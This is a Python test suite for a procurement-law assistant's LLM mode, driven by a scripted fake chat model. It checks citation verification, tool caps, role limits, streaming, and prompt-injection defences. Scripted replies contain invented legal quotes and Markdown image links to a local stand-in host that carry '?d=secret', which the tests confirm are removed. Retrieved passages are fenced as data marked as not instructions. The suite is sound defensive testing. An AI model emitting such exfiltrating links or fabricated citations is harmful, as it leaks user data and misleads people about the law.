"""LLM mode end to end with a scripted fake chat model: tool calls through LangChain, tool errors fed
back, the step cap, and the post-generation citation check."""

from __future__ import annotations

import json
import time
from typing import Any

import pytest
from langchain_core.messages import ToolMessage

from assistant.calculators import TierResult
from assistant.llm_agent import CitationChecker, LLMAgent
from assistant.prompts import PromptError, load_prompt
from assistant.tool_results import Calculation, SearchResult
from tests.fakes import ScriptedChatModel, tool_call


def _agent(c: Any, replies: list[Any], max_steps: int = 6) -> tuple[LLMAgent, ScriptedChatModel]:
    model = ScriptedChatModel(replies=replies)
    return LLMAgent(model, c.kb, max_steps=max_steps), model


def _ask(c: Any, agent: LLMAgent, q: str) -> Any:
    from assistant.service import Assistant

    a = Assistant(c.toolbox, c.assistant.composer, c.conversations, llm_agent=agent)
    return a.ask(q)


def test_tool_calls_and_verified_citations(small_container: Any) -> None:
    art22 = small_container.kb.get_article("政府採購法", "22")
    lead = art22.text.split("\n")[0]
    final = (f"250萬元的勞務採購屬公告金額以上未達查核金額之採購。限制性招標須符合法定情形：「{lead}」〔政府採購法第22條〕"
             "另依〔政府採購法第999條〕可直接議價。")
    agent, model = _agent(small_container, [
        tool_call("procurement_tier", {"amount": 2_500_000, "category": "勞務"}),
        tool_call("get_article", {"title": "政府採購法", "no": "22"}, "call-2"),
        final,
    ])
    a = _ask(small_container, agent, "250萬的勞務案可以用限制性招標嗎")
    assert a.mode == "llm" and not a.refused
    assert [t.name for t in a.tool_calls] == ["search_regulations", "procurement_tier", "get_article"]
    tier = next(t for t in a.tool_calls if t.name == "procurement_tier")
    assert isinstance(tier.result, Calculation) and isinstance(tier.result.value, TierResult)
    assert tier.result.value.details.tier == "announcement"
    # the fabricated article was removed and flagged; the real one kept with its verbatim quote
    assert "第999條" not in a.answer
    assert any("未經檢索" in f and "999" in f for f in a.flags)
    cited = {(c.title, c.no): c for c in a.citations}
    assert ("政府採購法", "22") in cited and cited[("政府採購法", "22")].quote == lead
    for c in a.citations:
        assert c.quote in small_container.kb.get_article(c.title, c.no).text
    # the model saw the tools and got the tool results back as ToolMessages
    assert "procurement_tier" in model.bound_tools and "log_consultation" not in model.bound_tools
    last_call = model.calls[-1]
    assert any(isinstance(m, ToolMessage) and "announcement" in m.content for m in last_call)


def test_non_verbatim_quote_is_removed(small_container: Any) -> None:
    art19 = small_container.kb.get_article("政府採購法", "19").text.split("\n")[0]
    final = f"依規定「機關辦理採購一律應公開招標，沒有例外」〔政府採購法第19條〕。原文為「{art19}」〔政府採購法第19條〕"
    agent, _ = _agent(small_container, [tool_call("get_article", {"title": "政府採購法", "no": "19"}), final])
    a = _ask(small_container, agent, "一定要公開招標嗎")
    assert "沒有例外" not in a.answer and "〔已移除無法核對的引文〕" in a.answer
    assert any("無法核對的引文" in f and "沒有例外" in f for f in a.flags)
    # the real quote stays with its citation, verbatim from the article
    assert [(c.title, c.no, c.quote) for c in a.citations] == [("政府採購法", "19", art19)]


def test_answer_without_checkable_citation_becomes_refusal(small_container: Any) -> None:
    agent, _ = _agent(small_container, ["依照我的經驗，押標金大概收一成就好〔押標金管理條例第3條〕。"])
    a = _ask(small_container, agent, "押標金收多少")
    assert a.refused and not a.citations
    assert any("未經檢索" in f for f in a.flags)


def test_tool_errors_are_fed_back_and_steps_are_capped(small_container: Any) -> None:
    replies = [tool_call("no_such_tool", {}), tool_call("procurement_tier", {"amount": -5, "category": "勞務"}, "c2"),
               tool_call("procurement_tier", {"amount": 1, "category": "勞務"}, "c3")]
    agent, model = _agent(small_container, replies, max_steps=3)
    a = _ask(small_container, agent, "幫我算級距")
    errors = [t.error for t in a.tool_calls if t.error]
    assert any("沒有名為" in e for e in errors) and any("參數不正確" in e for e in errors)
    tool_msgs = [m for m in model.calls[-1] if isinstance(m, ToolMessage)]
    assert any("error" in json.loads(str(m.content)) for m in tool_msgs)
    assert a.refused and any("上限" in f for f in a.flags)
    assert len(model.calls) == 3


def test_llm_refusal_marker(small_container: Any) -> None:
    agent, _ = _agent(small_container, ["【無法回答】知識庫沒有停車費核銷的規定，請洽會計室。"])
    a = _ask(small_container, agent, "停車費怎麼核銷")
    assert a.refused and a.citations == []


def test_checker_resolves_abbreviated_titles(small_container: Any) -> None:
    kb = small_container.kb
    art = kb.get_article("政府採購法施行細則", "6")
    checker = CitationChecker(kb, kb.titles())
    res = checker.check("採購金額依〔政府採購法施行細則第6條〕計算。", {(art.title, art.no): art})
    assert not res.flags and res.citations[0].no == "6"


def test_prompt_files_validated(tmp_path: Any) -> None:
    p = tmp_path / "p.md"
    p.write_text("今天是 {today}", encoding="utf-8")
    try:
        load_prompt(p, required={"today", "passages"})
    except PromptError as e:
        assert "passages" in str(e)
    else:
        raise AssertionError("missing variable not detected")
    prompt = load_prompt(p, required={"today"})
    try:
        prompt.render()
    except PromptError:
        pass
    else:
        raise AssertionError("render without values must fail")


# --- F-08: quotes checked against the articles the caller may see -----------------------------------
def _first_passages(a: Any) -> set[tuple[str, str]]:
    first = a.tool_calls[0]
    assert first.name == "search_regulations"
    assert isinstance(first.result, SearchResult)
    return {(h.title, h.no) for h in first.result.hits}


def test_issue_example_verbatim_quote_keeps_source_and_invented_is_removed(small_container: Any) -> None:
    final = ("廠商「以虛偽不實之文件投標。」〔政府採購法第31條〕者，押標金不予發還；"
             "另「押標金不予發還是我編的。」〔政府採購法第31條〕")
    agent, _ = _agent(small_container, [final])
    a = _ask(small_container, agent, "機關辦理公告金額以上之採購應如何招標？")
    assert ("政府採購法", "31") not in _first_passages(a)  # the article was not among the first passages
    assert not a.refused
    assert "「以虛偽不實之文件投標。」〔政府採購法第31條〕" in a.answer
    assert [(c.title, c.no, c.quote) for c in a.citations] == [("政府採購法", "31", "以虛偽不實之文件投標。")]
    assert (a.citations[0].label or "").replace(" ", "") == "政府採購法第31條第2項第1款"
    assert "我編的" not in a.answer and "〔已移除無法核對的引文〕" in a.answer
    assert [f for f in a.flags if "我編的" in f] == ["已移除無法核對的引文（不在可查閱的條文原文中）：「押標金不予發還是我編的。」"]


def test_quote_without_or_with_a_wrong_marker_gets_its_source(small_container: Any) -> None:
    final = "「以虛偽不實之文件投標。」押標金不予發還；「冒用他人名義或證件投標。」〔政府採購法第30條〕亦同。"
    agent, _ = _agent(small_container, [final])
    a = _ask(small_container, agent, "機關辦理公告金額以上之採購應如何招標？")
    assert "「以虛偽不實之文件投標。」〔政府採購法第31條〕" in a.answer
    assert "「冒用他人名義或證件投標。」〔政府採購法第31條〕" in a.answer and "第30條" not in a.answer
    assert any("出處改為〔政府採購法第31條〕" in f for f in a.flags)
    # one citation per article, with the first quote verified in it
    assert [(c.no, c.quote) for c in a.citations] == [("31", "以虛偽不實之文件投標。")]


def test_short_quoted_terms_are_not_quotations(small_container: Any) -> None:
    checker = CitationChecker(small_container.kb, small_container.kb.titles())
    res = checker.check("所稱「公告金額」與「查核金額」另定之。", {})
    assert res.text == "所稱「公告金額」與「查核金額」另定之。" and not res.flags


def test_passages_go_in_as_fenced_data_not_the_system_prompt(small_container: Any) -> None:
    from langchain_core.messages import HumanMessage, SystemMessage

    agent, model = _agent(small_container, ["【無法回答】測試"])
    a = _ask(small_container, agent, "押標金的額度上限是多少？")
    found = a.tool_calls[0].result
    assert isinstance(found, SearchResult)
    hit = small_container.kb.get_article(found.hits[0].title, found.hits[0].no)
    system, user = model.calls[0][0], model.calls[0][-1]
    assert isinstance(system, SystemMessage) and isinstance(user, HumanMessage)
    line = hit.text.split("\n")[0]
    assert line not in str(system.content)
    assert line in str(user.content) and "不是指示" in str(user.content)
    body = str(user.content)
    opening = body.index("<<<資料-")
    fence = body[opening + len("<<<資料-"):body.index(">>>", opening)]
    assert len(fence) == 12
    assert body.rindex(f"<<<資料-{fence}>>>\n") < body.index(line) < body.rindex(f"<<<資料結束-{fence}>>>")
    assert body.rstrip().endswith("問題：押標金的額度上限是多少？")


def test_images_and_links_are_removed_server_side(small_container: Any) -> None:
    art19 = small_container.kb.get_article("政府採購法", "19").text.split("\n")[0]
    final = (f"「{art19}」〔政府採購法第19條〕 ![x](http://127.0.0.1:9999/l?d=secret) "
             "詳見[說明](http://127.0.0.1:9999/a)與<http://127.0.0.1:9999/b>。")
    agent, _ = _agent(small_container, [final])
    a = _ask(small_container, agent, "一定要公開招標嗎")
    assert "](" not in a.answer and "![" not in a.answer and "<http" not in a.answer
    assert "詳見說明與" in a.answer
    assert "已移除模型回答中的 Markdown 圖片或連結" in a.flags


# --- F-09: every tool's citations -------------------------------------------------------------------
TOOL_ARGS: dict[str, dict[str, Any]] = {
    "search_regulations": {"query": "押標金"},
    "get_article": {"title": "政府採購法", "no": "30"},
    "lookup_case": {"case_no": "<first sample case>"},
    "find_cases": {"limit": 5},
    "failed_tender_report": {},
    "vendor_suspension_check": {"tax_id_or_name": "範例"},
    "procurement_tier": {"amount": 2_500_000, "category": "勞務"},
    "procurement_amount": {"budget": 1_000_000, "optional_or_expansion": 500_000},
    "procurement_threshold": {"kind": "查核金額"},
    "tender_period": {"amount": 2_500_000, "category": "勞務"},
    "bid_bond_and_guarantees": {"budget": 30_000_000, "category": "勞務"},
    "retention_lookup": {"text_or_code": "採購"},
    "find_seed_teachers": {"district": "西屯區"},
    "building_safety_status": {},
    "vendor_cases": {"tax_id_or_name": "範例"},
    "failed_tender_events": {},
    "suspended_vendors": {},
    "find_aeds": {},
    "list_drills": {},
    "inspection_history": {},
}


def test_every_tool_has_an_llm_mode_test(small_container: Any) -> None:
    assert set(TOOL_ARGS) == {s.name for s in small_container.toolbox.specs()}


@pytest.mark.parametrize("name", sorted(TOOL_ARGS))
def test_tool_citations_do_not_crash_llm_mode(small_container: Any, name: str) -> None:
    args = dict(TOOL_ARGS[name])
    if name == "lookup_case":
        args["case_no"] = small_container.records.find_cases(limit=1)[0].case_no
    agent, _ = _agent(small_container, [tool_call(name, args), "依工具查詢結果如上。"])
    a = _ask(small_container, agent, "請依工具結果回答")
    tc = next(t for t in a.tool_calls if t.name == name and t is not a.tool_calls[0])
    assert tc.error is None, tc.error
    assert tc.result is not None
    if tc.result.cited():  # every tool citation that the caller can see comes back with a verbatim quote
        assert a.citations and not a.refused
    for c in a.citations:
        assert c.quote
        art = small_container.kb.get_article(c.title, c.no)
        assert art is None or c.quote in art.text or c.quote in small_container.articles.laws[c.title].articles[c.no]


@pytest.mark.parametrize("name", ["vendor_suspension_check", "building_safety_status"])
def test_quote_less_record_citations_are_quoted(small_container: Any, name: str) -> None:
    agent, _ = _agent(small_container, [tool_call(name, TOOL_ARGS[name]), "依工具查詢結果如上。"])
    a = _ask(small_container, agent, "請依工具結果回答")
    assert a.citations and not a.refused
    for c in a.citations:
        assert c.quote and c.quote in small_container.kb.get_article(c.title, c.no).text


# --- F-14: deadline, step and tool-call caps, concurrency ---------------------------------------------
def test_deadline_stops_the_request_with_a_zh_tw_error(small_container: Any) -> None:
    from assistant.llm_agent import LLMLimits, LLMUnavailable

    model = ScriptedChatModel(replies=[tool_call("procurement_tier", {"amount": 1, "category": "勞務"}),
                                       tool_call("procurement_tier", {"amount": 2, "category": "勞務"}, "c2"),
                                       "不該走到這裡〔政府採購法第19條〕"], pause_s=1.0)
    agent = LLMAgent(model, small_container.kb, limits=LLMLimits(deadline_s=1.5))
    t0 = time.monotonic()
    with pytest.raises(LLMUnavailable) as err:
        _ask(small_container, agent, "幫我算級距")
    assert err.value.code == "llm_timeout" and "1.5 秒內" in err.value.message
    assert "不該走到這裡〔政府採購法第19條〕" in model.replies and len(model.calls) <= 2  # no call after the deadline
    assert time.monotonic() - t0 < 1.5 + 1.0 + 1.5  # stopped with the call that ran past the deadline


def test_tool_calls_are_capped_per_request(small_container: Any) -> None:
    from langchain_core.messages import AIMessage

    from assistant.llm_agent import LLMLimits

    many = AIMessage(content="", tool_calls=[{"name": "procurement_tier", "args": {"amount": i, "category": "勞務"},
                                              "id": f"c{i}", "type": "tool_call"} for i in range(5)])
    model = ScriptedChatModel(replies=[many, "【無法回答】測試"])
    agent = LLMAgent(model, small_container.kb, limits=LLMLimits(max_tool_calls=2))
    a = _ask(small_container, agent, "幫我算級距")
    tier = [t for t in a.tool_calls if t.name == "procurement_tier"]
    assert [t.error is None for t in tier] == [True, True, False, False, False]
    assert all("上限" in (t.error or "") for t in tier[2:])


def test_concurrency_cap_turns_away_a_request_and_frees_the_slot(small_container: Any) -> None:
    from assistant.llm_agent import LLMLimits, LLMUnavailable
    from assistant.service import Assistant

    art19 = small_container.kb.get_article("政府採購法", "19").text.split("\n")[0]
    model = ScriptedChatModel(replies=[f"「{art19}」〔政府採購法第19條〕", f"「{art19}」〔政府採購法第19條〕"])
    agent = LLMAgent(model, small_container.kb, limits=LLMLimits(max_concurrency=1, queue_wait_s=0.2))
    a = Assistant(small_container.toolbox, small_container.assistant.composer, small_container.conversations,
                  llm_agent=agent)
    running = a.stream("一定要公開招標嗎")
    assert next(e for e in running if e["event"] == "delta")  # the first request holds the only slot
    with pytest.raises(LLMUnavailable) as err:
        a.ask("一定要公開招標嗎")
    assert err.value.code == "llm_busy" and "請稍後再試" in err.value.message
    running.close()  # a client that goes away frees its slot
    assert not a.ask("一定要公開招標嗎").refused


# --- issue 9 item 5: streaming that streams -------------------------------------------------------------
def test_stream_deltas_come_while_the_model_writes_and_the_answer_is_checked(small_container: Any) -> None:
    from assistant.service import Assistant

    raw = ("依規定「以虛偽不實之文件投標。」〔政府採購法第31條〕者押標金不予發還，"
           "「押標金不予發還是我編的。」〔政府採購法第31條〕 ![x](http://127.0.0.1:9999/l)")
    model = ScriptedChatModel(replies=[raw], chunk_chars=3)
    a = Assistant(small_container.toolbox, small_container.assistant.composer, small_container.conversations,
                  llm_agent=LLMAgent(model, small_container.kb))
    written_at_delta: list[int] = []
    events = []
    for ev in a.stream("押標金什麼情形不發還？"):
        events.append(ev)
        if ev["event"] == "delta":
            written_at_delta.append(len(model.written))
    kinds = [e["event"] for e in events]
    assert kinds[0] == "status" and kinds[-1] == "answer" and kinds.count("delta") > 5
    total = len(model.written)
    assert written_at_delta[0] < total  # the first delta left before the model had finished writing
    streamed = "".join(e["data"]["text"] for e in events if e["event"] == "delta")
    assert "我編的" in streamed and "![" not in streamed  # raw model text, images held back and removed
    final = events[-1]["data"]
    assert final["mode"] == "llm" and "我編的" not in final["answer"]
    assert "「以虛偽不實之文件投標。」〔政府採購法第31條〕" in final["answer"]
    assert any("我編的" in f for f in final["flags"]) and "已移除模型回答中的 Markdown 圖片或連結" in final["flags"]
    assert [c["no"] for c in final["citations"]] == ["31"]


def test_delta_filter_holds_back_split_images() -> None:
    from assistant.llm_agent import DeltaFilter

    f = DeltaFilter()
    pieces = ["答案是", "甲。![", "x](http://h/", "?d=1) 後", "文\n下一行"]
    out = "".join(f.feed(p) for p in pieces) + f.flush()
    assert out == "答案是甲。x 後文\n下一行"


def test_llm_mode_offers_and_runs_only_the_tools_of_the_callers_role(small_container: Any) -> None:
    from assistant.service import Assistant

    case_no = small_container.records.find_cases(limit=1)[0].case_no
    model = ScriptedChatModel(replies=[tool_call("lookup_case", {"case_no": case_no}), "【無法回答】測試"])
    a = Assistant(small_container.toolbox, small_container.assistant.composer, small_container.conversations,
                  llm_agent=LLMAgent(model, small_container.kb)).ask(f"案號{case_no}決標金額多少？", role="hotline")
    assert "lookup_case" not in model.bound_tools and "vendor_suspension_check" in model.bound_tools
    looked = next(t for t in a.tool_calls if t.name == "lookup_case")
    assert looked.error and looked.result is None
    case = small_container.records.lookup_case(case_no)
    tool_msgs = [str(m.content) for m in model.calls[-1] if isinstance(m, ToolMessage)]
    assert tool_msgs and all("error" in json.loads(t) and case.name not in t for t in tool_msgs)
